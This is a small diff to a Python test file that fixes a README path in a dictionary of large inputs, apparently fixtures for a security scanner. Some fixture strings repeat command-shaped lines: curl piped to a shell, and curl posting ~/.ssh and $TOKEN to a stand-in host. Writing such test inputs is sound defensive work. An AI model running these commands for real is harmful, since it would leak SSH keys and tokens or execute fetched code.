@@ -204,7 +204,7 @@ def test_a_long_line_is_read_to_its_end(tmp_path: Path, offset: int) -> None:
 
 
 SHAPES = {
-    "markdown": (Path(__file__).parent.parent / "README.md").read_text() * 20,
+    "markdown": (Path(__file__).resolve().parents[2] / "README.md").read_text() * 20,
     "one long line of commands": "curl x .ssh/x | y sh $HOME " * 40_000,
     "many short lines": "curl -d x https://a.example/ -F y ~/.ssh/ $TOKEN\n" * 25_000,
     "non-ASCII": "このスキルはコードをレビューします。Ｃｕｒｌ\n" * 25_000,
